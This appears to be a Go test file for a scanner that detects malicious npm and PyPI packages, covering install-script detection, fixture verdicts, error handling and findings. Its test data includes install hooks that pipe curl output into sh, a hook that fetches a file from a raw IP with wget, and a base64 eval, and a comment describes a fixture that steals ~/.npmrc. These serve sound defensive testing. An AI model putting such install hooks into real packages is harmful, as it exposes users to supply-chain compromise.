package scan_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/moatproject/moat/scan"
	"github.com/moatproject/moat/scan/rules"
	"github.com/moatproject/moat/scan/sequence"
)

func newFakeScanner(opts scan.Options) *scan.Scanner {
	return scan.New(&fakeExtractor{}, rules.New(), opts)
}

// realExtractorOnly lists fixtures whose verdict rests on behaviour the
// line-based fake extractor does not model.
var realExtractorOnly = map[string]string{
	"npm-malicious-token-stealer":  "credential variables and webhook hosts inside expressions",
	"npm-benign-binary-installer":  "a known false block of the shipped model",
	"npm-malicious-computed-eval":  "computed names and folded constants",
	"npm-malicious-font-payload":   "data-file reads and vm",
	"npm-malicious-string-array":   "string arrays and decoded payloads",
	"npm-malicious-wallet-drainer": "page hooks and wallet addresses",
	"pypi-malicious-getattr-exec":  "getattr over folded names and decoded payloads",
}

// TestFixtureVerdicts runs every fixture through the whole pipeline with the
// line-based fake extractor and the rule classifier.
func TestFixtureVerdicts(t *testing.T) {
	s := newFakeScanner(scan.Options{})
	for _, name := range fixtureNames(t) {
		t.Run(name, func(t *testing.T) {
			if why, ok := realExtractorOnly[name]; ok {
				t.Skipf("needs the real extractor: %s (cmd/moat's TestShippedModelSeparatesFixtures judges it)", why)
			}
			fn, data := fixtureArchive(t, name)
			r := s.Scan(context.Background(), scan.Input{Filename: fn, Data: data})
			checkFixtureReport(t, name, r)
			if d := s.ScanDir(context.Background(), filepath.Join(fixturesDir, name)); !slices.Equal(d.Sequence, r.Sequence) || d.Verdict != r.Verdict {
				t.Errorf("ScanDir differs from Scan:\n%v\n%v", d.Sequence, r.Sequence)
			}
		})
	}
}

// checkFixtureReport asserts what every fixture report must satisfy.
func checkFixtureReport(t *testing.T, name string, r *scan.Report) {
	t.Helper()
	if r.Error != "" {
		t.Fatalf("error %s: %s", r.ErrorKind, r.Error)
	}
	want := scan.VerdictClean
	if strings.Contains(name, "-malicious-") {
		want = scan.VerdictMalicious
	}
	if r.Verdict != want {
		t.Errorf("verdict %s (score %.3f), want %s; sequence %v", r.Verdict, r.Score, want, r.Sequence)
	}
	if eco := scan.Ecosystem(strings.SplitN(name, "-", 2)[0]); r.Ecosystem != eco {
		t.Errorf("ecosystem %q, want %q", r.Ecosystem, eco)
	}
	if r.Name == "" || r.Version == "" {
		t.Errorf("name %q version %q", r.Name, r.Version)
	}
	if len(r.Sequence) != len(r.Events) {
		t.Errorf("sequence %d tokens, %d events", len(r.Sequence), len(r.Events))
	}
	if want == scan.VerdictMalicious && len(r.Findings) == 0 {
		t.Error("flagged without findings")
	}
	for _, f := range r.Findings {
		if f.Feature == "" || f.File == "" {
			t.Errorf("incomplete finding %+v", f)
		}
	}
}

func TestManifestEvents(t *testing.T) {
	tests := []struct {
		name  string
		files map[string]string
		want  []string // must appear in this order (not necessarily adjacent)
	}{
		{
			name: "postinstall runs a file",
			files: map[string]string{
				"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node ./lib/post.js"}}`,
				"lib/post.js":  "require('https').request('https://c.invalid/')",
				"index.js":     "module.exports = 1",
			},
			want: []string{"[INSTALL]", "install.script", "net.import", "url", "net.call"},
		},
		{
			name: "curl pipe sh",
			files: map[string]string{
				"package.json": `{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -fsSL https://get.invalid/i.sh | sh"}}`,
			},
			want: []string{"[INSTALL]", "install.script", "url", "shell.script", "net.call", "shell.download_exec", "shell.script", "process.call"},
		},
		{
			name: "node -e inline code",
			files: map[string]string{
				"package.json": `{"name":"x","version":"1.0.0","scripts":{"install":"node -e \"eval(atob('Y29uc29sZS5sb2coMSk='))\""}}`,
			},
			want: []string{"[INSTALL]", "install.script", "install.node_eval", "encoding.call", "eval.decoded"},
		},
		{
			name: "binding.gyp and npm run chain",
			files: map[string]string{
				"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"npm run setup","setup":"bash -c 'wget http://198.51.100.7/x'"}}`,
				"binding.gyp":  `{"targets":[]}`,
			},
			want: []string{"[INSTALL]", "install.binding_gyp", "install.script", "shell.script", "process.call", "url", "url.ip", "shell.script", "net.call"},
		},
		{
			name: "exports bin and main",
			files: map[string]string{
				"package.json": `{"name":"x","version":"1.0.0","main":"lib/main.js","exports":{"./sub":"./lib/sub.js",".":{"require":"./lib/main.js"}},"bin":{"x":"bin/x"}}`,
				"lib/main.js":  "require('os')",
				"lib/sub.js":   "require('fs')",
				"bin/x":        "#!/usr/bin/env node\nrequire('child_process')",
				"other.js":     "require('https')",
			},
			want: []string{"[IMPORT]", "os.import", "fs.import", "process.import", "[OTHER]", "net.import"},
		},
	}
	s := newFakeScanner(scan.Options{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := s.Scan(context.Background(), scan.Input{Filename: "x-1.0.0.tgz", Data: tgz(t, "package/", tt.files)})
			if r.Error != "" {
				t.Fatal(r.Error)
			}
			if !subsequence(r.Sequence, tt.want) {
				t.Errorf("sequence %v\nlacks %v", r.Sequence, tt.want)
			}
		})
	}
}

func subsequence(have, want []string) bool {
	i := 0
	for _, h := range have {
		if i < len(want) && h == want[i] {
			i++
		}
	}
	return i == len(want)
}

func TestScanErrors(t *testing.T) {
	_, good := fixtureArchive(t, "npm-benign-plain")
	tests := []struct {
		name string
		ex   *fakeExtractor
		cl   scan.Classifier
		ctx  func() context.Context
		data []byte
		kind string
	}{
		{name: "garbage", data: []byte("this is not an archive"), kind: "archive.format"},
		{name: "empty", data: nil, kind: "archive.format"},
		{name: "timeout", ex: &fakeExtractor{delay: time.Minute}, data: good, kind: scan.KindTimeout},
		{name: "panic", ex: &fakeExtractor{panics: true}, data: good, kind: scan.KindInternal},
		{name: "classifier error", cl: failingClassifier{}, data: good, kind: scan.KindInternal},
		{name: "cancelled", data: good, kind: scan.KindCanceled, ctx: func() context.Context {
			ctx, cancel := context.WithCancel(context.Background())
			cancel()
			return ctx
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var ex scan.Extractor = &fakeExtractor{}
			if tt.ex != nil {
				ex = tt.ex
			}
			var cl scan.Classifier = rules.New()
			if tt.cl != nil {
				cl = tt.cl
			}
			ctx := context.Background()
			if tt.ctx != nil {
				ctx = tt.ctx()
			}
			s := scan.New(ex, cl, scan.Options{Timeout: 200 * time.Millisecond})
			start := time.Now()
			r := s.Scan(ctx, scan.Input{Filename: "x.tgz", Data: tt.data})
			if r == nil {
				t.Fatal("nil report")
			}
			if r.Verdict != scan.VerdictError || r.ErrorKind != tt.kind || r.Error == "" {
				t.Errorf("verdict %q kind %q error %q, want kind %q", r.Verdict, r.ErrorKind, r.Error, tt.kind)
			}
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("took %s", d)
			}
			if r.Findings == nil || r.Sequence == nil || r.SHA256 == "" || r.ScannerVersion == "" {
				t.Errorf("incomplete error report %+v", r)
			}
		})
	}
	r := newFakeScanner(scan.Options{}).ScanDir(context.Background(), filepath.Join(t.TempDir(), "missing"))
	if r.Verdict != scan.VerdictError || r.ErrorKind != scan.KindIO {
		t.Errorf("missing folder: %q %q", r.ErrorKind, r.Error)
	}
}

type failingClassifier struct{}

func (failingClassifier) Score(context.Context, []string) (float64, error) {
	return 0, errors.New("model exploded")
}
func (failingClassifier) Threshold() float64 { return 0.5 }
func (failingClassifier) Version() string    { return "failing/1" }

func TestReportIdentity(t *testing.T) {
	fn, data := fixtureArchive(t, "npm-benign-plain")
	s := newFakeScanner(scan.Options{})
	r := s.Scan(context.Background(), scan.Input{Filename: fn, Data: data})
	sum := sha256.Sum256(data)
	if r.SHA256 != hex.EncodeToString(sum[:]) || r.Path != fn || r.Name != "tiny-format" || r.Version != "1.2.0" {
		t.Errorf("identity: %s %s %s %s", r.SHA256, r.Path, r.Name, r.Version)
	}
	if r.ScannerVersion != s.Version() || r.ModelVersion != rules.Version || r.Threshold != 0.5 {
		t.Errorf("versions: %s %s %v", r.ScannerVersion, r.ModelVersion, r.Threshold)
	}
	r = s.Scan(context.Background(), scan.Input{Filename: fn, Data: data, SHA256: "abc", Name: "given", Version: "9", Ecosystem: scan.NPM})
	if r.SHA256 != "abc" || r.Name != "given" || r.Version != "9" {
		t.Errorf("input identity not kept: %s %s %s", r.SHA256, r.Name, r.Version)
	}
}

func TestVersion(t *testing.T) {
	base := scan.New(&fakeExtractor{}, rules.New(), scan.Options{}).Version()
	other, _ := sequence.NewVocab([]string{"x"})
	for name, v := range map[string]string{
		"extractor":  scan.New(&fakeExtractor{version: "fake/2"}, rules.New(), scan.Options{}).Version(),
		"classifier": scan.New(&fakeExtractor{}, failingClassifier{}, scan.Options{}).Version(),
		"vocab":      scan.New(&fakeExtractor{}, rules.New(), scan.Options{Vocab: other}).Version(),
		"cap":        scan.New(&fakeExtractor{}, rules.New(), scan.Options{Sequence: sequence.Options{MaxTokens: 256}}).Version(),
	} {
		if v == base {
			t.Errorf("changing the %s kept version %s", name, v)
		}
	}
	if again := scan.New(&fakeExtractor{}, rules.New(), scan.Options{}).Version(); again != base {
		t.Errorf("version not stable: %s vs %s", again, base)
	}
}

func TestFindings(t *testing.T) {
	fn, data := fixtureArchive(t, "npm-malicious-postinstall")
	r := newFakeScanner(scan.Options{MaxFindings: 3}).Scan(context.Background(), scan.Input{Filename: fn, Data: data})
	// The fixture steals ~/.npmrc at install time: the behaviour rule's
	// evidence (the read, then the send) comes first, then the classifier's
	// findings by occlusion weight.
	if len(r.Findings) != 3 || len(r.Rules) == 0 || r.Rules[0].Rule != "install.exfiltration" ||
		r.Findings[0].Feature != "sensitive.path" || r.Findings[1].Feature != "net.call" || r.Findings[2].Weight <= 0 {
		t.Fatalf("findings %+v rules %+v", r.Findings, r.Rules)
	}
	// A classifier without ScoreBatch falls back to token risk.
	r = scan.New(&fakeExtractor{}, plainClassifier{rules.New()}, scan.Options{}).Scan(context.Background(), scan.Input{Filename: fn, Data: data})
	// After the rules' evidence (weight 1), the riskiest tokens unweighted.
	i := slices.IndexFunc(r.Findings, func(f scan.Finding) bool { return f.Weight == 0 })
	if i < 0 || sequence.Risk(r.Findings[i].Feature) < 10 {
		t.Errorf("fallback findings %+v", r.Findings)
	}
	fn, data = fixtureArchive(t, "npm-benign-plain")
	if r := newFakeScanner(scan.Options{}).Scan(context.Background(), scan.Input{Filename: fn, Data: data}); len(r.Findings) != 0 {
		t.Errorf("clean package with findings %+v", r.Findings)
	}
}

// plainClassifier hides the rules' ScoreBatch.
type plainClassifier struct{ c *rules.Classifier }

func (p plainClassifier) Score(ctx context.Context, t []string) (float64, error) {
	return p.c.Score(ctx, t)
}
func (p plainClassifier) Threshold() float64 { return p.c.Threshold() }
func (p plainClassifier) Version() string    { return p.c.Version() }

// TestConcurrentScans exercises the scanner under the race detector.
func TestConcurrentScans(t *testing.T) {
	s := newFakeScanner(scan.Options{Parallel: 3})
	names := fixtureNames(t)
	done := make(chan *scan.Report)
	for _, n := range names {
		fn, data := fixtureArchive(t, n)
		go func() { done <- s.Scan(context.Background(), scan.Input{Filename: fn, Data: data}) }()
	}
	for range names {
		if r := <-done; r.Error != "" {
			t.Error(r.Error)
		}
	}
}
